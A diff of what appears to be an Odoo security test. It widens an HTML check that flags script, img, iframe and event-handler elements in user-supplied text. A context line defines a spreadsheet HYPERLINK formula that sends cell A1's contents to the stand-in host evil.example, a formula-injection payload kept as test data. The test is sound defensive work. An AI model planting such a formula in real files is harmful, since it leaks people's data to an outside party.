@@ -20,9 +20,9 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Bakker")'
 @tagged("post_install", "-at_install")
 class TestSecurityMarkup(SendCase, HttpCase):
     def hostile(self, html_text):
-        """Whether a page or message would run or load something of a stranger."""
+        """Elements that a stranger's words have made: Odoo cleans messages too, but here none is to be made."""
         tree = html.fromstring(f"<div>{html_text or ''}</div>")
-        return tree.xpath("//img[@onerror] | //script | //*[@onload or @onclick or @onmouseover]")
+        return tree.xpath("//img | //script | //iframe | //*[@onload or @onclick or @onmouseover]")
 
     def assert_words_only(self):
         """All that this test has written where people read HTML."""
